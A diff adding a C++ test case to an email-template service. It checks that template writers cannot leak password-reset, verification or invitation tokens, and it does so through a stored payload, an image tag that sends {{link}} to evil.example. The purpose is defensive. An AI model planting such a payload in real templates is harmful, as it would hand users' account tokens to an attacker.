@@ -90,6 +90,24 @@ TEST_CASE("a change keeps the variables in step, gives an old slug back, and del
   CHECK(deleted->front().claims.front().release);
 }
 
+TEST_CASE("whoever may write templates does not get at the tokens of the house's mails") {
+  constexpr const char* stolen = R"(<img src="https://evil.example/?t={{link}}">)";
+  for (const char* slug : {"reset_password", "verify_email", "invitation"}) {
+    CHECK(faulty_field(defined(define("x", stolen, slug))) == "body");
+    CHECK(defined(define("x", R"(<p><a href="{{link}}">Go on</a></p>)", slug)).has_value());
+    const StoredTemplate now{{.id = mint(), .version = 2, .deleted = false}, {slug, "x", "Subject", "{{link}}"}};
+    UpdateTemplate command{{now.id, {}}, {}, {}};
+    command.words.set(&BodyWords::html, std::optional<std::string>(stolen));
+    CHECK(faulty_field(decide_on<StoredTemplate>(seen_with<StoredTemplate>({now}), command, admin)) == "body");
+  }
+  CHECK(defined(define("x", stolen, "newsletter")).has_value());
+  StoredTemplate other = welcome();
+  other.body = stolen;
+  UpdateTemplate renamed{{other.id, {}}, {}, {}};
+  renamed.changes.set(&TemplateFields::slug, "reset_password");
+  CHECK(faulty_field(decide_on<StoredTemplate>(seen_with<StoredTemplate>({other}), renamed, admin)) == "body");
+}
+
 TEST_CASE("a person's mail takes from its template what it does not say, and links a known candidate") {
   const StoredTemplate stored = welcome();
   SendEmail command = mail_to(alice);
